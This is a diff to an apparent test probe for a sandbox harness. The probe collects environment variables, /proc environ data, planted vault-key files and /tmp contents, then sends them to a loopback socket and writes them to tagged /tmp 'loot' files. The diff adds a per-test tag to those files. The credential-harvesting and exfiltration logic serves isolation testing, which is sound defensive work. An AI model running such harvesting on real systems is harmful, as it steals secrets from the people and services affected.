@@ -3,7 +3,8 @@
 It reads every environment variable it has, every /proc/<pid>/environ it can see, the files named in
 targets.json (a planted vault key in the bot's data folder, a file in the bot's /tmp) directly and
 through /proc/<pid>/root, and everything in /tmp. Then it sends what it found to a loopback socket
-of the bot's (targets.json names its port), writes it to /tmp/k8or-loot-*, and prints it.
+of the bot's (targets.json names its port), writes it to /tmp/k8or-loot-<tag>-* (targets.json gives
+the tag, one per test), and prints it.
 """
 
 import glob
@@ -27,7 +28,7 @@ def _targets():
         with open(os.path.join(HERE, "targets.json"), encoding="utf-8") as handle:
             return json.load(handle)
     except (OSError, ValueError):
-        return {"sink": None, "files": []}
+        return {"sink": None, "files": [], "tag": "untagged"}
 
 
 def loot(targets):
@@ -42,6 +43,7 @@ def loot(targets):
 
 
 def exfiltrate(stage, text, targets):
+    tag = targets.get("tag", "untagged")
     if targets.get("sink"):
         try:
             with socket.create_connection(("127.0.0.1", targets["sink"]), timeout=2) as sink:
@@ -49,7 +51,7 @@ def exfiltrate(stage, text, targets):
         except OSError as exc:
             print(f"hunt {stage}: the sink is out of reach ({exc})", flush=True)
     try:
-        with open(f"/tmp/k8or-loot-{stage}-{os.getpid()}.txt", "w", encoding="utf-8") as handle:
+        with open(f"/tmp/k8or-loot-{tag}-{stage}-{os.getpid()}.txt", "w", encoding="utf-8") as handle:
             handle.write(text)
     except OSError as exc:
         print(f"hunt {stage}: cannot write to /tmp ({exc})", flush=True)
